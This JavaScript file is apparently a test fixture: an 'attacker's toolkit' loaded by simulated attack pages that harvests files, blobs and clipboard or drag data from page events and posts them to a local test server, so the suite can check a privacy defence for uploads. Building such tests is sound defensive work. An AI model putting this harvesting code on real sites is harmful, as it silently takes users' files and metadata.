// The attacker's toolkit, loaded first by every attack page: what the page's traps
// catch is kept in `loot` and sent to the test server by `flush()`, as a site that
// wants the user's metadata would send it home. It keeps its own copies of the
// built-ins it needs, since the attacks below replace many of them.
(() => {
  const NativeBlob = Blob;
  const NativeFile = File;
  const NativeFormData = FormData;
  const nativeFetch = fetch;
  const isView = ArrayBuffer.isView;
  const append = FormData.prototype.append;
  const loot = [];
  const seen = new WeakSet();
  const page = location.pathname.split('/').pop().replace('.html', '');

  /** Keeps anything that could carry the user's bytes: files, blobs, buffers, lists of them. */
  function steal(label, value, depth = 0) {
    if (value === null || value === undefined || depth > 3) return;
    if (typeof value !== 'object' && typeof value !== 'function') return;
    if (seen.has(value)) return;
    seen.add(value);
    if (value instanceof NativeBlob || value instanceof ArrayBuffer || isView(value)) {
      loot[loot.length] = [label, value];
      return;
    }
    try {
      // FileLists, DataTransferItemLists, arrays, event-like objects
      if (typeof value.length === 'number' && value.length < 1000) {
        for (let i = 0; i < value.length; i++) steal(label, value[i], depth + 1);
      }
      for (const key of ['files', 'dataTransfer', 'clipboardData', 'data', 'detail', 'ports']) {
        if (key in value) steal(`${label}.${key}`, value[key], depth + 1);
      }
    } catch {
      // a getter that throws on this object: nothing to take
    }
  }

  /** Sends the loot home. Always one request, so the test knows the attack reported. */
  async function flush() {
    const body = new NativeFormData();
    let i = 0;
    for (let n = 0; n < loot.length; n++) {
      const [label, value] = [loot[n][0], loot[n][1]];
      const blob = value instanceof NativeBlob ? value : new NativeBlob([value]);
      append.call(body, 'loot', blob, `${i++}-${label}${value instanceof NativeFile ? `-${value.name}` : ''}`);
    }
    append.call(body, 'count', String(loot.length));
    await nativeFetch(`/upload?from=loot-${page}`, { method: 'POST', body });
  }

  /** The honest part of the page: what an ordinary uploader sends. */
  async function honest(files) {
    const body = new NativeFormData();
    for (const file of files) append.call(body, 'photo', file, file.name);
    await nativeFetch(`/upload?from=honest-${page}`, { method: 'POST', body });
  }

  window.steal = steal;
  window.flush = flush;
  window.honest = honest;
})();
